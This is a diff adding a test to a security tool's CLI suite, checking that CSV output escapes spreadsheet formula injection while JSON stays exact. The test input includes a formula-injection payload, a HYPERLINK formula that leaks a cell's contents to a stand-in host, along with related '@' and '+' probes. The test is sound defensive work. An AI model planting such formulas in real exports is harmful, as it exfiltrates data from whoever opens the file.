@@ -8,7 +8,9 @@ the VM (`ingest syslog`) and flows of a horizontal scan from the VM's address, l
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import os
 import re
@@ -205,6 +207,22 @@ def test_sql_csv_is_exact_into_a_pipe_and_escaped_on_a_terminal(hostile_lake):
     shown = _on_a_terminal(*args).decode()
     assert "\x1b" not in shown and "\u202e" not in shown  # no raw ESC, no raw right-to-left override
     assert r"\x1b" in shown and r"\u202e" in shown  # shown escaped instead
+
+
+def test_sql_csv_cells_a_spreadsheet_would_run_are_text(hostile_lake):
+    """A review: `sql --format csv` wrote a tenant's `=HYPERLINK(...)` or `@SUM(...)` raw, which a spreadsheet
+    opening the alerts runs (the incident package's CSV already guarded them). Such text cells start with '
+    now, in both; numbers and JSON stay exact."""
+    query = (
+        "SELECT '=HYPERLINK(\"http://x/?\"&A1)' AS a, '@SUM(1+1)' AS b, '-2+3' AS c, '+1' AS d, "
+        "'\tx' AS e, 'web-05' AS f, -5 AS n"
+    )
+    result = cli("sql", query, "--format", "csv", "--lake", str(hostile_lake))
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert rows[1] == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1+1)", "'-2+3", "'+1", "'\tx", "web-05", "-5"]
+    exact = cli("sql", query, "--format", "json", "--lake", str(hostile_lake))
+    assert json.loads(exact.stdout)[0]["a"] == '=HYPERLINK("http://x/?"&A1)'
 
 
 @pytest.mark.parametrize(
